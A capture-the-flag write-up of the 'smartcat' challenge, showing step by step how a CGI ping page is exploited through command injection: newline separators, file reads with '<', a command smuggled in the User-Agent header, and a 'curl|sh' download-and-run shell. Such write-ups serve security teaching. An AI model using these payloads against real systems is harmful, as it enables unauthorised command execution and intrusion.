smartcat - Writeup by Maxima


Damn it, that stupid smart cat litter is broken again

Now only the debug interface is available here and this stupid thing only permits one ping to be sent!

I know my contract number is stored somewhere on that interface but I can't find it and this is the only available page! Please have a look and get this info for me !

FYI No need to bruteforce anything there. If you do you'll be banned permanently


The web interface allows you to ping a domain name. This is themost basic example of shell injection. We can guess that the server runs something like ping -c 1 $dest. We will inject a separator to execute another shell command. I first tried:; ls | ls

But I got a Bad character error. It looks like some characters are forbidden. I finally found out that \n is allowed, so I could execute a space-free command using:

curl '' -d ''

That is nice! I also had the idea of using < − which is not blacklisted − to display the content of a file:

curl '' -d '<index.cgi'

The next step is to get a shell. My idea was to use sh</tmp/myfile, but I first needed a way to write in a file. I finally found the command env that prints all environment variables.

curl '' -d ''

Because the server uses CGI, we have special environment variables containing the request parameters. We can use the user agent to inject a shell command:

curl '' -A 'xxx echo Powned; exit 0' -d ''

It returns:

HTTP_USER_AGENT=xxx echo Powned; exit 0

It is a perfectly well formed shell script! Now we can basically execute any command using:

curl '' -A 'xxx echo Powned; exit 0' -d '>/tmp/pony7%0Ash</tmp/pony7'

Now it's easy to get the first flag:

find .
cat there/is/your/flag/or/maybe/not/what/do/you/think/really/please/tell/me/seriously/though/here/is/the/flag

For the second one, I used curl|sh that gives me a real shell on my server. Then:$ /home/smartcat/readflag
Almost there... just trying to make sure you can execute arbitrary commands....
Write 'Give me a...' on my stdin, wait 2 seconds, and then write '... flag!'.
Do not include the quotes. Each part is a different line.
$ (echo "Give me a..."; sleep 2; echo "... flag!"; cat) | /home/smartcat/readflag
        .-"; ! ;"-.
      .'!  : | :  !`.
     /\  ! : ! : !  /\
    /\ |  ! :|: !  | /\
   (  \ \ ; :!: ; / /  )
  ( `. \ | !:|:! | / .' )
  (`. \ \ \!:|:!/ / / .')
   \ `.`.\ |!|! |/,'.' /
    `._`.\\\!!!//.'_.'
        |`._`n'_.'|hjw

INS{shells_are _way_better_than_cats}


Maxime Arthaud 2016/01/17 21:56